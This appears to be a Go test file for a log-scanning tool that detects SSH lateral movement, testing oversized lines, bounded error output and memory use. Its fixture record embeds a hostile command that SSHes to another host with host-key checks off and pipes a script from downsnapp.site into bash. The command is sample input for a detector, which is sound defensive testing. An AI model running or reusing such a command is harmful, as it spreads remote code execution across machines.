package main

import (
	"context"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/sshlateral/sshlateral/cmd/internal/cli"
	"github.com/sshlateral/sshlateral/consumer/decode"
	"github.com/sshlateral/sshlateral/processor"
)

// matchingCIM is a CIM record that matches the detection, one group per i.
func matchingCIM(i int, t time.Time) string {
	return fmt.Sprintf(`{"_time":%d,"dest":"host-%d","user":"root","process":"ssh -oBatchMode=yes -oConnectTimeout=5 -oStrictHostKeyChecking=no 10.0.1.20 curl -o- http://downsnapp.site/ks | bash","process_name":"ssh","process_id":%d,"parent_process":"bash","parent_process_name":"bash","parent_process_id":1}`,
		t.Unix(), i%50, 10000+i)
}

// A line over --max-record-bytes is reported with file, line and size and
// skipped; the lines after it are still scanned, and the exit code says
// input was lost.
func TestScanSkipsOversizedLines(t *testing.T) {
	t0 := time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC)
	path := filepath.Join(t.TempDir(), "in.json")
	content := matchingCIM(1, t0) + "\n" + strings.Repeat("x", 5000) + "\n" + matchingCIM(2, t0.Add(time.Minute)) + "\n"
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	code, stdout, stderr := runCLI(t, "", "scan", "--max-record-bytes", "1000", path)
	if code != exitInputErrors {
		t.Fatalf("exit %d, want %d: %s", code, exitInputErrors, stderr)
	}
	if want := fmt.Sprintf("%s:2: line of 5001 bytes skipped", path); !strings.Contains(stderr, want) {
		t.Errorf("stderr lacks %q: %s", want, stderr)
	}
	if got := strings.Count(stdout, "\n"); got != 4 {
		t.Errorf("%d risk records, want 4 (both matches, before and after the long line)", got)
	}
}

// A decode error quotes at most a bounded part of the record: a hostile
// line cannot blow up stderr (nor a log shipper reading it).
func TestScanDecodeErrorBounded(t *testing.T) {
	path := filepath.Join(t.TempDir(), "in.json")
	line := `{"_time":"` + strings.Repeat("x", 200_000) + `","process_name":"ssh","dest":"h"}`
	if err := os.WriteFile(path, []byte(line+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	code, _, stderr := runCLI(t, "", "scan", path)
	if code != exitInputErrors {
		t.Fatalf("exit %d, want %d: %.300s", code, exitInputErrors, stderr)
	}
	for _, l := range strings.Split(stderr, "\n") {
		if len(l) > maxScanErrorBytes+len(path)+64 {
			t.Fatalf("stderr line of %d bytes: %.200s…", len(l), l)
		}
	}
	if !strings.Contains(stderr, path+":1:") {
		t.Errorf("stderr does not name the line: %.300s", stderr)
	}
}

// scan drains the partition's state changes as it goes: its heap stays
// bounded by the open groups, not by every group ever seen.
func TestScanMemoryBoundedByOpenGroups(t *testing.T) {
	if testing.Short() {
		t.Skip("scans 40000 events")
	}
	const events = 40000
	t0 := time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC)
	var b strings.Builder
	for i := range events {
		b.WriteString(matchingCIM(i, t0.Add(time.Duration(i)*10*time.Second))) // 360 groups per hour
		b.WriteByte('\n')
	}
	heap := func() int64 {
		runtime.GC()
		var ms runtime.MemStats
		runtime.ReadMemStats(&ms)
		return int64(ms.HeapAlloc)
	}
	var first, last int64
	results := 0
	sink := func(rs []processor.Result) error {
		results += len(rs)
		// Measured while the partition is live: the final flush, after
		// which it is garbage, is left out.
		if len(rs) > 0 && results < events-1000 {
			if first == 0 && results > 2000 {
				first = heap()
			}
			last = heap()
		}
		return nil
	}
	e := cli.Env{Getenv: func(string) string { return "" }, Stdin: strings.NewReader(b.String()), Stderr: io.Discard}
	b.Reset()
	summary := scanSummary{Results: map[string]int64{}}
	cfg := processor.DefaultConfig()
	cfg.Emit = processor.EmitFinal
	if err := scan(context.Background(), e, lineReader{stdin: e.Stdin, max: defaultMaxRecordBytes}, []string{"-"},
		decode.FormatCIM, nil, true, cfg, sink, &summary); err != nil {
		t.Fatal(err)
	}
	if results != events {
		t.Fatalf("%d results, want %d", results, events)
	}
	// Holding every closed group adds about 450 bytes each, 17 MB here.
	t.Logf("heap %d -> %d", first, last)
	if growth := last - first; growth > 8<<20 {
		t.Errorf("heap grew by %d bytes from the first windows to the end of input, want it bounded by the open groups", growth)
	}
}
